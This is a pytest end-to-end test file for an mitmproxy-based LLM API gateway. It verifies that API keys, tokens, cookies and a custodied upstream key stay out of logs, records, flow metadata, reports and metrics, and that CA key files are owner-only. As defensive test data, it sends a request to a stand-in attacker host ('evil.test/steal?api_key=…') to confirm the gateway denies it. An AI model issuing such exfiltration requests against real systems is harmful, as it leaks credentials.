"""Secrets never leave the request: no API key, `authorization`, proxy credential or cookie value appears in
the gateway's log (mitmdump's output), its records (usage and egress), what it puts on flows for mitmweb
(`flow.metadata`, `flow.comment`), the usage report or the metrics; and the CA private key is readable by
its owner only.

Distinctive secret strings go through every path a request can take: base-URL and egress mode, answers,
streams, upstream errors that echo the key back, wrapped errors, stream error events, cut streams, a path
that is not API traffic, and refused egress (denied CONNECT, denied plain HTTP).

With key custody (a `credentials` section), the gateway token and the upstream key go through the same
paths, plus refused tokens (wrong, missing) and an upstream that echoes the real key back, which the client
must not learn either; the saved flows (what mitmweb shows) are searched whole, request headers included.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import ssl
import stat
import subprocess
import sys
import urllib.request
from pathlib import Path

import pytest
from mitmproxy import io as mio

from conftest import routed_rules
from fakes.upstream import FakeUpstream, Scenario, litellm_wrapped_error
from harness import ROOT, Gateway
from llm_gateway.util import cafiles
from llm_gateway.policy.spec import token_hash
from secretvolume import write_secret

pytestmark = pytest.mark.e2e

RESOLVE = ROOT / "tests" / "fakes" / "resolve.py"
TOKEN = secrets.token_hex(6)
SECRETS = {
    "x-api-key": f"sk-ant-api03-KEY{TOKEN}",
    "authorization": f"Bearer BEARER{TOKEN}",
    "cookie": f"sid=COOKIE{TOKEN}; other=COOKIETWO{TOKEN}",
    "proxy-authorization": f"Basic PROXYAUTH{TOKEN}",
}
UPSTREAM_SET_COOKIE = f"upstream_sid=SETCOOKIE{TOKEN}"
# Key custody: the real key the gateway holds, the token an agent holds, a token it does not know.
UPSTREAM_KEY = f"sk-ant-api03-UPSTREAMKEY{TOKEN}"
GATEWAY_TOKEN = f"llmgw-GATEWAYTOKEN{TOKEN}"
WRONG_TOKEN = f"llmgw-WRONGTOKEN{TOKEN}"
# What must never show up: the distinctive part of every secret (so a shortened or re-quoted copy is caught).
MARKS = [f"{kind}{TOKEN}" for kind in (
    "KEY", "BEARER", "COOKIE", "COOKIETWO", "PROXYAUTH", "SETCOOKIE", "UPSTREAMKEY", "GATEWAYTOKEN", "WRONGTOKEN")]
MESSAGES = {"model": "claude-test-1", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]}


def request(path: str, host: str, body: dict | None, headers: dict[str, str], method: str = "POST") -> bytes:
    data = json.dumps(body).encode() if body is not None else b""
    lines = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    return (f"{method} {path} HTTP/1.1\r\nhost: {host}\r\ncontent-type: application/json\r\n{lines}"
            f"content-length: {len(data)}\r\nconnection: close\r\n\r\n").encode() + data


def read_all(sock: socket.socket, head: bytes = b"") -> bytes:
    """One response: to the end of its content-length if it has one (a kept-alive 403), else to EOF."""
    data = head
    while True:
        end = data.find(b"\r\n\r\n")
        if end >= 0:
            for line in data[:end].split(b"\r\n")[1:]:
                name, _, value = line.partition(b":")
                if name.strip().lower() == b"content-length":
                    want = end + 4 + int(value)
                    while len(data) < want and (chunk := sock.recv(65536)):
                        data += chunk
                    return data
        chunk = sock.recv(65536)
        if not chunk:
            return data
        data += chunk


def send(port: int, data: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=15) as s:
        s.sendall(data)
        return read_all(s)


def through_tunnel(gw: Gateway, host: str, data: bytes) -> bytes:
    """CONNECT host:443 (with a proxy credential), then TLS trusting the gateway's CA, then `data`."""
    with socket.create_connection(("127.0.0.1", gw.regular_port), timeout=15) as s:
        s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nhost: {host}:443\r\n"
                  f"proxy-authorization: {SECRETS['proxy-authorization']}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = s.recv(1)
            if not chunk:
                break
            head += chunk
        if not head.startswith(b"HTTP/1.1 200"):
            return read_all(s, head)
        context = ssl.create_default_context(cafile=str(gw.ca_cert))
        with context.wrap_socket(s, server_hostname=host) as tls:
            tls.sendall(data)
            return read_all(tls)


def metrics_when_recorded(gw: Gateway, records: int, headers: dict[str, str]) -> bytes:
    """The metrics endpoint's answer (asked with `headers`), once `records` usage records are written."""
    gw.records(count=records, timeout=10)
    return send(gw.reverse_port, request("/-/metrics", "127.0.0.1", None, headers, "GET"))


@pytest.fixture(scope="module")
def traffic(tmp_path_factory):
    """One gateway, every path once, then stopped (which flushes the flow file); yields (gateway, flows
    file, what the clients got, the fake)."""
    flows = tmp_path_factory.mktemp("flows") / "flows.mitm"
    with FakeUpstream() as fake:
        rules = routed_rules(fake.url)
        gw = Gateway(rules, extra_args=("-w", str(flows), "-s", str(RESOLVE), "--set", "gateway_keep_stream_body=4m"),
                     env={"LLM_GATEWAY_TEST_HOSTS": "evil.test=127.0.0.1"})
        with gw:
            cookie = {"set-cookie": UPSTREAM_SET_COOKIE}
            echo = f"invalid x-api-key: {SECRETS['x-api-key']}"  # an upstream that echoes the key
            base = [
                ("stream", {**MESSAGES, "stream": True}, Scenario(headers=cookie)),
                ("json", MESSAGES, Scenario(headers=cookie)),
                ("error", MESSAGES, Scenario.error(401, "authentication_error", echo, headers=cookie)),
                ("wrapped", MESSAGES, litellm_wrapped_error(401, "authentication_error", echo)),
                ("stream-error", {**MESSAGES, "stream": True}, Scenario(error_after=2, stream_error={
                    "type": "authentication_error", "message": echo})),
                ("stream-cut", {**MESSAGES, "stream": True}, Scenario(truncate_after=3)),
                ("stream-abort", {**MESSAGES, "stream": True}, Scenario(abort_after=3)),
            ]
            got = {}
            for name, body, scenario in base:
                headers = {**SECRETS, "x-session-id": f"secret-{name}", "x-fake-scenario": scenario.to_header()}
                got[name] = send(gw.reverse_port, request("/v1/messages", "127.0.0.1", body, headers))
            got["not-api"] = send(gw.reverse_port, request("/v1/models", "127.0.0.1", None, SECRETS, "GET"))
            # Egress mode: an inspected API call, a denied CONNECT, a denied plain-HTTP request.
            api_headers = {**SECRETS, "x-session-id": "secret-egress", "x-fake-scenario": Scenario(headers=cookie).to_header()}
            got["egress"] = through_tunnel(gw, "api.anthropic.com", request(
                "/v1/messages", "api.anthropic.com", {**MESSAGES, "stream": True}, api_headers))
            got["denied-connect"] = through_tunnel(gw, "evil.test", b"")
            got["denied-plain"] = send(gw.regular_port, request(
                f"http://evil.test/steal?api_key=KEY{TOKEN}", "evil.test", None, SECRETS, "GET"))
            got["metrics"] = metrics_when_recorded(gw, len(base) + 1, SECRETS)
        yield gw, flows, got, fake


def test_every_path_was_taken(traffic):
    gw, _flows, got, fake = traffic
    assert b"event: message_stop" in got["stream"] and b'"type":"message"' in got["json"]
    assert b"401" in got["error"].split(b"\r\n")[0] and b"401" in got["wrapped"].split(b"\r\n")[0]
    assert b"authentication_error" in got["stream-error"] and b"event: error" in got["stream-cut"]
    assert b"event: message_stop" in got["egress"]
    assert got["denied-connect"].startswith(b"HTTP/1.1 403") and got["denied-plain"].startswith(b"HTTP/1.1 403")
    assert b'llm_gateway_requests_total{client="unknown",model="claude-test-1",status="401"} 2.0' in got["metrics"]
    # The secrets did reach the upstream untouched: the gateway forwards credentials, it does not log them.
    seen = [r for r in fake.requests if r.headers.get("x-session-id", "").startswith("secret-")]
    assert len(seen) == 8 and all(r.headers.get("x-api-key") == SECRETS["x-api-key"] for r in seen)
    sessions = {r["session"] for r in gw.records(timeout=0, count=0)}
    assert {"secret-stream", "secret-egress", "secret-wrapped", "secret-stream-abort"} <= sessions
    assert {r["decision"] for r in gw.records(timeout=0, count=0, kind="egress")} >= {"denied"}


def assert_clean(where: str, text: str) -> None:
    found = [m for m in MARKS if m in text]
    assert not found, f"secret {found} in {where}"


def test_no_secret_in_the_gateway_log(traffic):
    gw = traffic[0]
    out = gw.output()
    assert "session=secret-strea" in out and "egress denied" in out  # the log does describe the exchanges
    # (A key in the query string of a URL is the next test's.)
    assert_clean("mitmdump output", out.replace(f"api_key=KEY{TOKEN}", "api_key=…"))


def test_no_query_string_key_in_the_gateway_log(traffic):
    """`?api_key=…` (how Google's APIs take keys) on a refused plain-HTTP request: the egress record and
    the log lines drop the query string. (mitmdump's own flow lines, `client: METHOD URL`, print whole
    URLs at the default flow_detail=1: the container runs with flow_detail=0, see docs/reliability.md.)"""
    gw = traffic[0]
    [denied] = [r for r in gw.records(timeout=0, count=0, kind="egress") if r["host"] == "evil.test" and r["port"] == 80]
    assert denied["path"] == "/steal"
    log_lines = [line for line in gw.output().splitlines() if line.startswith("[")]  # not the flow lines
    assert any("egress denied" in line and "evil.test:80/steal" in line for line in log_lines)
    assert_clean("the gateway's log lines", "\n".join(log_lines))


def test_no_secret_in_usage_or_egress_records(traffic):
    gw = traffic[0]
    text = gw.usage_log.read_text()
    assert '"kind":"egress"' in text and '"kind":"usage"' in text
    assert_clean("the record log", text)


def test_no_secret_in_flow_metadata_or_comments(traffic):
    """What mitmweb shows besides the messages themselves: the gateway's metadata and comments."""
    flows = traffic[1]
    with open(flows, "rb") as f:
        saved = list(mio.FlowReader(f).stream())
    annotated = [f for f in saved if f.metadata.get("gateway") or f.comment]
    assert len(annotated) >= 8
    for f in saved:
        assert_clean(f"metadata of {f.id}", json.dumps(f.metadata, default=str))
        assert_clean(f"comment of {f.id}", f.comment or "")


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_no_secret_in_the_usage_report(traffic, fmt):
    gw = traffic[0]
    done = subprocess.run(
        [sys.executable, "-m", "llm_gateway.tools.report", "--format", fmt, str(gw.usage_log)],
        capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT / "addons")}, timeout=30,
    )
    assert done.returncode == 0, done.stderr
    assert "secret-stream" in done.stdout
    assert_clean(f"the {fmt} report", done.stdout + done.stderr)


def test_no_secret_in_the_metrics(traffic):
    assert_clean("the metrics", traffic[2]["metrics"].decode())


# ------------------------------------------------------------------------------------------ key custody


@pytest.fixture(scope="module")
def custody(tmp_path_factory):
    """A gateway holding the upstream key (a Secret volume) whose agents hold a gateway token: every path
    once, then stopped; yields (gateway, flows file, what the clients got, the fake)."""
    tmp = tmp_path_factory.mktemp("custody")
    key_file = write_secret(tmp / "secret", "api-key", UPSTREAM_KEY)
    flows = tmp / "flows.mitm"
    with FakeUpstream() as fake:
        rules = routed_rules(fake.url, extra=f"""\
credentials:
  upstream: [{{name: main, key_file: {key_file}}}]
  tokens: [{{name: team-a, sha256: "{token_hash(GATEWAY_TOKEN)}"}}]
""")
        with Gateway(rules, extra_args=("-w", str(flows))) as gw:
            echo = f"invalid x-api-key: {UPSTREAM_KEY}"  # an upstream that echoes the real key back
            token = {"x-api-key": GATEWAY_TOKEN, "authorization": f"Bearer {GATEWAY_TOKEN}"}
            base = [  # answers are queued on the fake: a scenario header would carry the key itself
                ("stream", {**MESSAGES, "stream": True}, Scenario(), token),
                ("json", MESSAGES, Scenario(), token),
                ("echo-error", MESSAGES, Scenario.error(401, "authentication_error", echo), token),
                ("echo-wrapped", MESSAGES, litellm_wrapped_error(401, "authentication_error", echo), token),
                ("echo-stream-error", {**MESSAGES, "stream": True}, Scenario(error_after=2, stream_error={
                    "type": "authentication_error", "message": echo}), token),
                ("echo-json", MESSAGES, Scenario(text=f"your key is {UPSTREAM_KEY}"), token),
                ("wrong", MESSAGES, None, {"x-api-key": WRONG_TOKEN}),
                ("missing", MESSAGES, None, {}),
            ]
            got = {}
            for name, body, scenario, headers in base:
                if scenario is not None:
                    fake.script(scenario)
                got[name] = send(gw.reverse_port, request("/v1/messages", "127.0.0.1", body,
                                                          {**headers, "x-session-id": f"custody-{name}"}))
            got["not-api"] = send(gw.reverse_port, request("/v1/models", "127.0.0.1", None, token, "GET"))
            got["egress"] = through_tunnel(gw, "api.anthropic.com", request(
                "/v1/messages", "api.anthropic.com", {**MESSAGES, "stream": True}, {**token, "x-session-id": "custody-egress"}))
            got["metrics"] = metrics_when_recorded(gw, len(base) + 1, token)
        yield gw, flows, got, fake


def test_custody_paths_were_taken_and_the_upstream_saw_only_its_key(custody):
    gw, _flows, got, fake = custody
    assert b"event: message_stop" in got["stream"] and b'"type":"message"' in got["json"]
    assert b"event: message_stop" in got["egress"] and b"event: error" in got["echo-stream-error"]
    for name in ("echo-error", "echo-wrapped", "wrong", "missing"):
        assert got[name].startswith(b"HTTP/1.1 401"), name
    assert b"masked by the gateway" in got["echo-error"] and b"masked by the gateway" in got["echo-json"]
    principals = {r["session"]: r["principal"] for r in gw.records(timeout=0, count=0)}
    assert principals["custody-stream"] == "team-a" and principals["custody-wrong"] is None
    api = [r for r in fake.requests if r.path_only == "/v1/messages"]
    assert len(api) == 7 and all(r.headers.get("x-api-key") == UPSTREAM_KEY for r in api)
    assert all(GATEWAY_TOKEN not in json.dumps(list(r.headers.items())) for r in fake.requests)


def test_custody_secrets_are_in_no_answer_log_record_metric_or_report(custody):
    gw, _flows, got, _fake = custody
    for name, answer in got.items():
        assert_clean(f"the answer to {name}", answer.decode(errors="replace"))
    assert_clean("mitmdump output", gw.output())
    assert_clean("the record log", gw.usage_log.read_text())
    report = subprocess.run(
        [sys.executable, "-m", "llm_gateway.tools.report", "--format", "json", str(gw.usage_log)],
        capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT / "addons")}, timeout=30,
    )
    assert report.returncode == 0 and "custody-stream" in report.stdout
    assert_clean("the usage report", report.stdout + report.stderr)


def test_custody_secrets_are_nowhere_in_the_saved_flows(custody):
    """The whole stored flow (request headers, bodies, metadata, comments): what mitmweb shows and `-w` saves."""
    with open(custody[1], "rb") as f:
        saved = list(mio.FlowReader(f).stream())
    assert len([f for f in saved if f.metadata.get("gateway")]) >= 9
    for f in saved:
        assert_clean(f"flow {f.id}", json.dumps(f.get_state(), default=repr))


# ----------------------------------------------------------------------------------------- the CA key


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def private_files(folder: Path) -> list[Path]:
    """Files holding a private key: PEM with a key block, and the PKCS#12 bundle with the key."""
    return [p for p in folder.iterdir() if p.is_file() and (
        b"PRIVATE KEY" in p.read_bytes() or p.name == "mitmproxy-ca.p12")]


@pytest.fixture
def open_umask():
    """A umask that hides nothing, so the modes checked are the gateway's own doing."""
    old = os.umask(0)
    yield
    os.umask(old)


def test_the_ca_key_mitmproxy_makes_is_owner_only(fake, open_umask):
    with Gateway(routed_rules(fake.url)) as gw:
        os.umask(0o022)
        keys = private_files(gw.confdir)
        assert {p.name for p in keys} >= {"mitmproxy-ca.pem", "mitmproxy-ca.p12"}
        for key in keys:
            assert mode(key) == 0o600, f"{key} is {oct(mode(key))}"


def test_the_ca_key_the_gateway_installs_is_owner_only(fake, tmp_path, open_umask):
    """`gateway_ca`: the shared CA is copied into a private confdir of the gateway's own."""
    os.umask(0o022)
    cafiles.save(cafiles.create("secrets test CA", 2), tmp_path / "ca")
    os.umask(0)
    with Gateway(routed_rules(fake.url), extra_args=("--set", f"gateway_ca={tmp_path / 'ca'}")) as gw:
        os.umask(0o022)
        line = gw.wait_for_output("confdir is now ")
        folder = Path(line.split("confdir is now ", 1)[1].split()[0])
        assert mode(folder) == 0o700
        keys = private_files(folder)
        assert "mitmproxy-ca.pem" in {p.name for p in keys}
        for key in keys:
            assert mode(key) == 0o600, f"{key} is {oct(mode(key))}"
        # It is the shared CA the gateway presents, and the clients' copy holds no key.
        assert b"PRIVATE KEY" not in (folder / "mitmproxy-ca-cert.pem").read_bytes()
        with urllib.request.urlopen(f"{gw.base_url}/-/healthz", timeout=10) as r:
            assert r.status == 200
    assert not folder.exists(), "the private copy of the key is removed when the gateway stops"
